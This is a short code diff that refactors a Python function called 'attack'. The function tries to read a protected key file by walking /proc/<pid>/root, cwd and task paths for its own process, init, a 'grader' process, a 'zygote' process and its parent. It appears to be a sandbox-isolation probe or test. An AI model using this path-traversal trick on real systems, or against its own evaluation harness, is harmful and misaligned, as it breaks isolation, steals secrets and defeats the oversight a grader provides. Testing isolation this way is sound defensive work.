@@ -12,7 +12,7 @@ import os
 def attack(targets: dict) -> str:
     key = targets["key_file"].lstrip("/")
     for pid in ("self", "thread-self", "1", str(targets["grader_pid"]), str(targets["zygote_pid"]), str(os.getppid())):
-        for way in (f"/proc/{pid}/root/{key}", f"/proc/{pid}/cwd/{key}", f"/proc/{pid}/task/{pid}/root/{key}"):
+        for way in (f"/proc/{pid}/{place}/{key}" for place in ("root", "cwd", f"task/{pid}/root")):
             try:
                 with open(way, "rb") as file:
                     file.read(10)
